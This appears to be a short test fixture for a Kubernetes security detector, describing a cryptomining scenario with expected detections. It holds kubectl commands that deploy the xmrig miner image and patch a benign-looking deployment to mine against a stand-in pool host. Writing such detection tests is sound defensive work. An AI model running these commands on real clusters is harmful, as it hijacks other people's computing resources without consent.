# A miner is run: a Deployment of one, and one that a Deployment is changed into.
#
# may: create,get,patch deployments
# detections: 2
# also: image-outside-allow-list: its registry is on nobody's list

kubectl create deployment worker --image=docker.io/xmrig/xmrig:6.21
admin create deployment shop --image=registry.k8s.io/pause:3.10
kubectl patch deployment shop --patch '{"spec": {"template": {"spec": {"containers":
  [{"name": "pause", "args": ["--url=stratum+tcp://pool.example.com:3333", "--donate-level=1"]}]}}}}'
